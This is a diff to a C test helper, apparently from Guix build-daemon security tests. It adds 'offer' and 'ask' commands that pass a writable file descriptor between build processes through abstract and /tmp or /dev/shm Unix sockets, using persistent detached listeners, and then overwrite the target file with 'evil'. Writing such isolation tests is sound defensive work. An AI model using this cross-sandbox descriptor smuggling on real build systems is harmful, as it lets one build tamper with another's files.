@@ -123,6 +123,75 @@ static int hand_out (const char *name, const char *file)
   return send_descriptor (connect_to (name), descriptor) < 0;
 }
 
+/* Where a builder offers a descriptor, and others look for it; `@' stands for the byte 0, before the name of a
+   socket that has none in the file system.  */
+static const char *const places[] = { "@guix-attack", "/tmp/attack", "/dev/shm/attack", NULL };
+
+static socklen_t address_of (const char *place, struct sockaddr_un *address)
+{
+  memset (address, 0, sizeof *address);
+  address->sun_family = AF_UNIX;
+  strncpy (address->sun_path, place, sizeof address->sun_path - 1);
+  if (*place == '@')
+    *address->sun_path = 0;
+  return offsetof (struct sockaddr_un, sun_path) + strlen (place);
+}
+
+/* Offers a descriptor with which FILE can be written to in all places, by processes that do not end, and ends
+   itself as soon as there is a file ENOUGH.  */
+static int offer (const char *file, const char *enough)
+{
+  int descriptor = open (file, O_RDWR), n;
+  struct sockaddr_un address;
+  if (result ("open", descriptor) < 0)
+    return 1;
+  for (n = 0; places[n]; n++)
+    {
+      socklen_t length = address_of (places[n], &address);
+      int listener = socket (AF_UNIX, SOCK_STREAM, 0);
+      if (bind (listener, (struct sockaddr *) &address, length) < 0 || listen (listener, 9) < 0)
+        return result (places[n], -1) < 0;
+      if (*places[n] != '@')
+        chmod (places[n], 0777);
+      if (fork () == 0)
+        {
+          setsid ();
+          for (;;)
+            {
+              int stream = accept (listener, NULL, NULL);
+              send_descriptor (stream, descriptor);
+              close (stream);
+            }
+        }
+    }
+  printf ("offered\n");
+  while (access (enough, F_OK) < 0)
+    usleep (20000);
+  return 0;
+}
+
+/* Looks for what is offered, and writes to it.  */
+static int ask (void)
+{
+  struct sockaddr_un address;
+  struct message message;
+  int n, descriptor;
+  for (n = 0; places[n]; n++)
+    {
+      socklen_t length = address_of (places[n], &address);
+      int stream = socket (AF_UNIX, SOCK_STREAM, 0);
+      if (connect (stream, (struct sockaddr *) &address, length) < 0)
+        continue;
+      printf ("%s is there\n", places[n]);
+      if (recvmsg (stream, empty (&message), 0) < 0 || !CMSG_FIRSTHDR (&message.header))
+        continue;
+      memcpy (&descriptor, CMSG_DATA (CMSG_FIRSTHDR (&message.header)), sizeof (int));
+      result ("write", pwrite (descriptor, "evil", 4, 0));
+    }
+  printf ("asked everywhere\n");
+  return 0;
+}
+
 /* Whoever listens at NAME sends a directory; sends back a connection to the socket that is there, and
    stays as long as it is wanted.  */
 static int come_in (const char *name, int stays)
@@ -151,6 +220,10 @@ int main (int count, char **words)
     return access_list (words[2], atoi (words[3]));
   if (strcmp (what, "hand-out") == 0)
     return hand_out (words[2], words[3]);
+  if (strcmp (what, "offer") == 0)
+    return offer (words[2], words[3]);
+  if (strcmp (what, "ask") == 0)
+    return ask ();
   if (strcmp (what, "make-socket") == 0)
     {
       struct sockaddr_un address = { .sun_family = AF_UNIX };
